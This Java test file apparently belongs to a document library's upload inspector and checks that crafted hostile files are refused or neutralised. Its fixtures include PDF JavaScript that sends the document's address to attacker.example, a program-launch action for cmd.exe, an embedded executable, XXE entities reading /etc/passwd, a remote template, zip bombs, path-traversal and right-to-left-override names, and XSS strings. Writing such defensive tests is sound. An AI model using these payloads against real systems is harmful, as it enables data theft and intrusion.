package org.safeports.library;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentInformation;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDDocumentOutline;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDOutlineItem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.safeports.platform.files.FileFormat;
import org.safeports.platform.files.FileInspector;
import org.safeports.platform.files.FileNames;
import org.safeports.platform.files.InspectedFile;
import org.safeports.platform.files.UploadLimits;
import org.safeports.platform.files.UploadRefused;
import org.springframework.util.unit.DataSize;

/**
 * The upload corpus: what an attacker or a confused user might send, each refused with its reason
 * or neutralised, and a genuine file of each format accepted with its text. The files are built
 * here, so the corpus needs nothing from outside.
 */
class UploadCorpusTest {

  static final UploadLimits LIMITS =
      new UploadLimits(DataSize.ofMegabytes(2), 1000, DataSize.ofMegabytes(50), 100, 400_000);
  final FileInspector inspector = new FileInspector(LIMITS);

  static final byte[] PDF = DemoFiles.pdf("Hurricane plan", List.of("Evacuate the quay."));
  static final byte[] DOCX = DemoFiles.docx("Tsunami plan", List.of("Sirens on the breakwater."));

  private String refusal(String name, byte[] content) {
    try {
      inspector.inspect(name, content);
      return "accepted";
    } catch (UploadRefused e) {
      return e.messageKey();
    }
  }

  @Test
  void eachFormatIsAcceptedWithItsText() throws UploadRefused {
    InspectedFile pdf = inspector.inspect("plan.pdf", PDF);
    assertThat(pdf.format()).isEqualTo(FileFormat.PDF);
    assertThat(pdf.text()).contains("Evacuate the quay");
    assertThat(pdf.pages()).isEqualTo(1);

    assertThat(inspector.inspect("plan.docx", DOCX).text()).contains("Sirens on the breakwater");
    assertThat(
            inspector
                .inspect("s.xlsx", DemoFiles.xlsx("Answers", List.of(List.of("Peru", "Mooring"))))
                .text())
        .contains("Mooring");
    assertThat(
            inspector
                .inspect("p.pptx", DemoFiles.pptx(List.of(List.of("Cranes", "Lashing gear"))))
                .text())
        .contains("Lashing gear");
    InspectedFile odt =
        inspector.inspect("p.odt", DemoFiles.odt("Plan", List.of("Tug <standby> & pilots")));
    assertThat(odt.format()).isEqualTo(FileFormat.ODT);
    assertThat(odt.text()).contains("Tug <standby> & pilots");
  }

  @Test
  void aPdfRenamedToDocxAndTheReverseAreRefused() {
    assertThat(refusal("plan.docx", PDF)).isEqualTo("files.upload.nameMismatch");
    assertThat(refusal("plan.pdf", DOCX)).isEqualTo("files.upload.nameMismatch");
  }

  @Test
  void htmlOrAnExecutableNamedPdfIsRefused() {
    byte[] html =
        "<html><script>alert(document.cookie)</script></html>".getBytes(StandardCharsets.UTF_8);
    assertThat(refusal("report.pdf", html)).isEqualTo("files.upload.unknownType");
    byte[] exe = new byte[] {'M', 'Z', (byte) 0x90, 0, 3, 0, 0, 0};
    assertThat(refusal("report.pdf", exe)).isEqualTo("files.upload.unknownType");
    assertThat(refusal("notes.txt", "plain words".getBytes(StandardCharsets.UTF_8)))
        .isEqualTo("files.upload.unknownType");
  }

  @Test
  void aPdfWithAnArchiveInsideIsRefused() throws IOException {
    ByteArrayOutputStream polyglot = new ByteArrayOutputStream();
    polyglot.write(PDF);
    polyglot.write(zip(Map.of("evil.html", "<script>alert(1)</script>".getBytes())));
    assertThat(refusal("plan.pdf", polyglot.toByteArray())).isEqualTo("files.upload.polyglot");
  }

  @Test
  void aPdfWithAnHtmlPageAfterItsEndIsRefused() throws IOException {
    byte[] html =
        "<html><body><script>alert(document.domain)</script></body></html>\n"
            .getBytes(StandardCharsets.US_ASCII);
    assertThat(refusal("plan.pdf", concat(PDF, html))).isEqualTo("files.upload.polyglot");
    // A second end marker after the page does not make the page part of the PDF.
    byte[] markedAgain = concat(PDF, html, "%%EOF\n".getBytes(StandardCharsets.US_ASCII));
    assertThat(refusal("plan.pdf", markedAgain)).isEqualTo("files.upload.polyglot");
  }

  @Test
  void aPdfEndingInLineEndsAndPaddingIsAccepted() throws IOException {
    byte[] padded = concat(PDF, "\r\n  \n".getBytes(StandardCharsets.US_ASCII), new byte[512]);
    assertThat(refusal("plan.pdf", padded)).isEqualTo("accepted");
  }

  @Test
  void aPdfWithAnIncrementalUpdateIsAccepted() throws IOException, UploadRefused {
    byte[] updated;
    try (PDDocument pdf = Loader.loadPDF(PDF);
        ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      PDDocumentInformation info = pdf.getDocumentInformation();
      info.setTitle("Hurricane plan, reviewed");
      info.getCOSObject().setNeedToBeUpdated(true);
      pdf.getDocument().getTrailer().setNeedToBeUpdated(true);
      pdf.saveIncremental(out);
      updated = out.toByteArray();
    }
    String text = new String(updated, StandardCharsets.ISO_8859_1);
    assertThat(text.split("%%EOF", -1)).as("two revisions, each with its end").hasSize(3);
    assertThat(inspector.inspect("plan.pdf", updated).text()).contains("Evacuate the quay");
  }

  @Test
  void aPdfRunningJavaScriptWhenOpenedIsRefused() throws IOException {
    byte[] pdf = changed(PDF, doc -> doc.getDocumentCatalog().setOpenAction(script()));
    // Saved with object streams: the action is compressed, no search of the bytes finds it.
    assertThat(new String(pdf, StandardCharsets.ISO_8859_1)).doesNotContain("JavaScript");
    assertThat(refusal("plan.pdf", pdf)).isEqualTo("files.upload.activeContent");
  }

  @Test
  void aPdfWithJavaScriptInALinkOnAPageIsRefused() throws IOException {
    byte[] pdf = changed(PDF, doc -> doc.getPage(0).getAnnotations().add(link(script())));
    assertThat(refusal("plan.pdf", pdf)).isEqualTo("files.upload.activeContent");
    PDActionURI javascriptLink = new PDActionURI();
    javascriptLink.setURI("javascript:alert(1)");
    byte[] linked = changed(PDF, doc -> doc.getPage(0).getAnnotations().add(link(javascriptLink)));
    assertThat(refusal("plan.pdf", linked)).isEqualTo("files.upload.activeContent");
  }

  @Test
  void aPdfLaunchingAProgramIsRefused() throws IOException {
    PDActionLaunch launch = new PDActionLaunch();
    launch.setFile(new PDSimpleFileSpecification(new org.apache.pdfbox.cos.COSString("cmd.exe")));
    byte[] pdf = changed(PDF, doc -> doc.getPage(0).getAnnotations().add(link(launch)));
    assertThat(refusal("plan.pdf", pdf)).isEqualTo("files.upload.activeContent");
  }

  @Test
  void aPdfWithAnEmbeddedFileIsRefused() throws IOException {
    byte[] pdf =
        changed(
            PDF,
            doc -> {
              PDEmbeddedFile payload =
                  new PDEmbeddedFile(
                      doc, new ByteArrayInputStream("MZ payload".getBytes(StandardCharsets.UTF_8)));
              PDComplexFileSpecification attachment = new PDComplexFileSpecification();
              attachment.setFile("update.exe");
              attachment.setEmbeddedFile(payload);
              PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
              files.setNames(Map.of("update.exe", attachment));
              PDDocumentNameDictionary names =
                  new PDDocumentNameDictionary(doc.getDocumentCatalog());
              names.setEmbeddedFiles(files);
              doc.getDocumentCatalog().setNames(names);
            });
    assertThat(refusal("plan.pdf", pdf)).isEqualTo("files.upload.embeddedFile");
  }

  @Test
  void aPdfWhoseScriptHidesBehindEscapedNamesIsRefused() {
    String page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>";
    String pages = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
    byte[] clean = handWritten("<< /Type /Catalog /Pages 2 0 R >>", pages, page);
    assertThat(refusal("clean.pdf", clean)).isEqualTo("accepted");
    // /Open#41ction is /OpenAction, /J#61vaScript is /JavaScript and /J#53 is /JS once decoded.
    byte[] hidden =
        handWritten(
            "<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>",
            pages,
            page,
            "<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>");
    assertThat(new String(hidden, StandardCharsets.US_ASCII)).doesNotContain("JavaScript");
    assertThat(refusal("hidden.pdf", hidden)).isEqualTo("files.upload.activeContent");
  }

  @Test
  void aPdfWithWebLinksAndBookmarksIsAccepted() throws IOException {
    PDActionURI web = new PDActionURI();
    web.setURI("https://www.oas.org/cip");
    byte[] pdf =
        changed(
            PDF,
            doc -> {
              doc.getPage(0).getAnnotations().add(link(web));
              PDDocumentOutline outline = new PDDocumentOutline();
              PDOutlineItem item = new PDOutlineItem();
              item.setTitle("Evacuation");
              PDPageFitDestination destination = new PDPageFitDestination();
              destination.setPage(doc.getPage(0));
              item.setAction(goTo(destination));
              outline.addLast(item);
              doc.getDocumentCatalog().setDocumentOutline(outline);
              doc.getDocumentCatalog().setOpenAction(destination);
            });
    assertThat(refusal("plan.pdf", pdf)).isEqualTo("accepted");
  }

  private static PDActionJavaScript script() {
    return new PDActionJavaScript("app.launchURL('https://attacker.example/?' + this.URL);");
  }

  private static PDAnnotationLink link(PDAction action) {
    PDAnnotationLink link = new PDAnnotationLink();
    link.setRectangle(new PDRectangle(72, 700, 200, 20));
    link.setAction(action);
    return link;
  }

  private static PDActionGoTo goTo(PDPageFitDestination destination) {
    PDActionGoTo goTo = new PDActionGoTo();
    goTo.setDestination(destination);
    return goTo;
  }

  interface PdfChange {
    void apply(PDDocument pdf) throws IOException;
  }

  /** The PDF changed and saved again as PDFBox saves by default (with object streams). */
  static byte[] changed(byte[] original, PdfChange change) throws IOException {
    try (PDDocument pdf = Loader.loadPDF(original);
        ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      change.apply(pdf);
      pdf.save(out);
      return out.toByteArray();
    }
  }

  /** A PDF written by hand, objects numbered from 1 (the catalog), with a correct xref table. */
  static byte[] handWritten(String... objects) {
    StringBuilder pdf = new StringBuilder("%PDF-1.7\n");
    List<Integer> offsets = new java.util.ArrayList<>();
    for (int i = 0; i < objects.length; i++) {
      offsets.add(pdf.length());
      pdf.append(i + 1).append(" 0 obj\n").append(objects[i]).append("\nendobj\n");
    }
    int xref = pdf.length();
    pdf.append("xref\n0 ").append(objects.length + 1).append("\n0000000000 65535 f\r\n");
    for (int offset : offsets) {
      pdf.append(String.format("%010d 00000 n\r\n", offset));
    }
    pdf.append("trailer\n<< /Size ").append(objects.length + 1).append(" /Root 1 0 R >>\n");
    pdf.append("startxref\n").append(xref).append("\n%%EOF\n");
    return pdf.toString().getBytes(StandardCharsets.US_ASCII);
  }

  static byte[] concat(byte[]... parts) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      out.write(part);
    }
    return out.toByteArray();
  }

  @Test
  void aTruncatedOrDamagedFileIsRefused() {
    byte[] half = java.util.Arrays.copyOf(PDF, PDF.length / 3);
    assertThat(refusal("plan.pdf", half)).isEqualTo("files.upload.damaged");
    byte[] brokenZip = java.util.Arrays.copyOf(DOCX, 40);
    assertThat(refusal("plan.docx", brokenZip))
        .isIn("files.upload.damaged", "files.upload.unknownType");
  }

  @Test
  void aZipBombDocxIsRefusedBeforeAnyParserReadsIt() throws IOException {
    Map<String, byte[]> parts = parts(DOCX);
    parts.put("word/media/padding.bin", new byte[60 * 1024 * 1024]);
    byte[] bomb = zip(parts);
    assertThat((long) bomb.length).isLessThan(LIMITS.maxFileSize().toBytes());
    assertThat(refusal("bomb.docx", bomb)).isEqualTo("files.upload.expandsTooMuch");
  }

  @Test
  void aLargePartWrittenWithoutSizesInItsHeaderIsAccepted() throws IOException, UploadRefused {
    // Streaming writers (ZipOutputStream, LibreOffice) put the sizes after the data, so they are
    // unknown while the part is read: a 1.5 MB photo must not look like a bomb.
    Map<String, byte[]> parts = parts(DOCX);
    byte[] photo = new byte[1536 * 1024];
    new java.util.Random(7).nextBytes(photo);
    parts.put("word/media/photo.jpeg", photo);
    String types = new String(parts.get("[Content_Types].xml"), StandardCharsets.UTF_8);
    parts.put(
        "[Content_Types].xml",
        types
            .replaceFirst(
                "<Default ", "<Default Extension=\"jpeg\" ContentType=\"image/jpeg\"/><Default ")
            .getBytes(StandardCharsets.UTF_8));
    assertThat(inspector.inspect("photo.docx", zip(parts)).text()).contains("Sirens");
  }

  @Test
  void aDocxWithTooManyPartsIsRefused() throws IOException {
    Map<String, byte[]> parts = parts(DOCX);
    for (int i = 0; i < 1200; i++) {
      parts.put("customXml/item" + i + ".xml", "<a/>".getBytes());
    }
    assertThat(refusal("many.docx", zip(parts))).isEqualTo("files.upload.tooManyParts");
  }

  @Test
  void aDocxWithAnExternalEntityIsRefused() throws IOException {
    Map<String, byte[]> parts = parts(DOCX);
    String document = new String(parts.get("word/document.xml"), StandardCharsets.UTF_8);
    String xxe =
        document.replaceFirst(
            "\\?>", "?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>");
    parts.put("word/document.xml", xxe.replace("Sirens", "&xxe;").getBytes(StandardCharsets.UTF_8));
    assertThat(refusal("xxe.docx", zip(parts))).isEqualTo("files.upload.externalContent");
  }

  @Test
  void aDocxFetchingARemoteTemplateIsRefusedButHyperlinksAreFine() throws IOException {
    Map<String, byte[]> parts = parts(DOCX);
    String rels =
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
            + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
            + "<Relationship Id=\"rId99\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
            + " Target=\"http://attacker.example/template.dotm\" TargetMode=\"External\"/>"
            + "</Relationships>";
    parts.put("word/_rels/settings.xml.rels", rels.getBytes(StandardCharsets.UTF_8));
    assertThat(refusal("template.docx", zip(parts))).isEqualTo("files.upload.externalContent");

    Map<String, byte[]> linked = parts(DOCX);
    String hyperlink =
        rels.replace("attachedTemplate", "hyperlink").replace("template.dotm", "page.html");
    linked.put("word/_rels/settings.xml.rels", hyperlink.getBytes(StandardCharsets.UTF_8));
    assertThat(refusal("linked.docx", zip(linked))).isEqualTo("accepted");
  }

  @Test
  void anEmptyFileAndAnOversizeFileAreRefused() {
    assertThat(refusal("empty.pdf", new byte[0])).isEqualTo("files.upload.empty");
    byte[] big = new byte[(int) LIMITS.maxFileSize().toBytes() + 1];
    System.arraycopy(PDF, 0, big, 0, PDF.length);
    assertThat(refusal("big.pdf", big)).isEqualTo("files.upload.tooLarge");
  }

  @Test
  void aZipThatIsNoOfficeFileIsRefused() throws IOException {
    byte[] archive = zip(Map.of("readme.txt", "hello".getBytes()));
    assertThat(refusal("archive.docx", archive)).isEqualTo("files.upload.unknownType");
    byte[] escaping =
        zip(Map.of("[Content_Types].xml", "<a/>".getBytes(), "../../evil.sh", "x".getBytes()));
    assertThat(refusal("escape.docx", escaping)).isEqualTo("files.upload.damaged");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../etc/passwd.pdf",
        "..\\..\\windows\\system32\\plan.pdf",
        "/var/tmp/plan.pdf",
        "plan\u0000.exe.pdf",
        "CON.pdf",
        "nul.pdf",
        "LPT1.pdf",
        "  .pdf",
        "plan\u202Egnp.pdf",
        "a:b*c?d|e<f>g\".pdf"
      })
  void dangerousNamesAreNeutralised(String name) throws UploadRefused {
    String kept = inspector.inspect(name, PDF).fileName();
    assertThat(kept).endsWith(".pdf");
    assertThat(kept)
        .doesNotContain("/", "\\", "\u0000", "\u202E", ":", "*", "?", "|", "<", ">", "\"");
    assertThat(kept).doesNotStartWith(".");
    assertThat(kept.toUpperCase()).doesNotMatch("(CON|NUL|LPT1)\\.PDF");
  }

  @Test
  void aNameEndingInAnotherTypeIsRefused() {
    assertThat(refusal("invoice\u202Efdp.exe", PDF)).isEqualTo("files.upload.nameMismatch");
    assertThat(refusal("plan.pdf.html", PDF)).isEqualTo("files.upload.nameMismatch");
  }

  @Test
  void aVeryLongNameIsShortenedAndKeepsItsExtension() throws UploadRefused {
    String kept = inspector.inspect("é".repeat(5000) + ".pdf", PDF).fileName();
    assertThat(kept).hasSize(FileNames.MAX_BASE_LENGTH + 4).endsWith(".pdf");
  }

  @Test
  void aNameWithoutExtensionGetsTheRealOne() throws UploadRefused {
    assertThat(inspector.inspect("Plan de contingencia", DOCX).fileName())
        .isEqualTo("Plan de contingencia.docx");
  }

  @Test
  void aPasswordProtectedPdfIsRefusedWithItsOwnReason() throws IOException {
    try (var pdf = org.apache.pdfbox.Loader.loadPDF(PDF);
        ByteArrayOutputStream out = new ByteArrayOutputStream()) {
      var policy =
          new org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy(
              "owner", "user", new org.apache.pdfbox.pdmodel.encryption.AccessPermission());
      policy.setEncryptionKeyLength(128);
      pdf.protect(policy);
      pdf.save(out);
      assertThat(refusal("locked.pdf", out.toByteArray()))
          .isEqualTo("files.upload.passwordProtected");
    }
  }

  @Test
  void theHighlightOfAPassageEscapesEverythingButItsOwnMarks() {
    String headline =
        "<img src=x onerror=alert(1)> "
            + LibrarySearch.HIGHLIGHT_START
            + "tsunami"
            + LibrarySearch.HIGHLIGHT_END
            + " & <b>";
    assertThat(DocumentViews.passage(headline))
        .isEqualTo("&lt;img src=x onerror=alert(1)&gt; <mark>tsunami</mark> &amp; &lt;b&gt;");
  }

  @Test
  void noParserIsGivenADoctype() {
    assertThatThrownBy(
            () ->
                FileInspector.secureXml()
                    .createXMLStreamReader(
                        new ByteArrayInputStream(
                            "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>"
                                .getBytes()))
                    .getElementText())
        .isInstanceOf(javax.xml.stream.XMLStreamException.class);
  }

  static Map<String, byte[]> parts(byte[] zip) throws IOException {
    Map<String, byte[]> parts = new LinkedHashMap<>();
    try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
      ZipEntry entry;
      while ((entry = in.getNextEntry()) != null) {
        parts.put(entry.getName(), in.readAllBytes());
      }
    }
    return parts;
  }

  static byte[] zip(Map<String, byte[]> parts) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      zip.setLevel(9);
      for (Map.Entry<String, byte[]> part : parts.entrySet()) {
        zip.putNextEntry(new ZipEntry(part.getKey()));
        zip.write(part.getValue());
        zip.closeEntry();
      }
    }
    return out.toByteArray();
  }
}
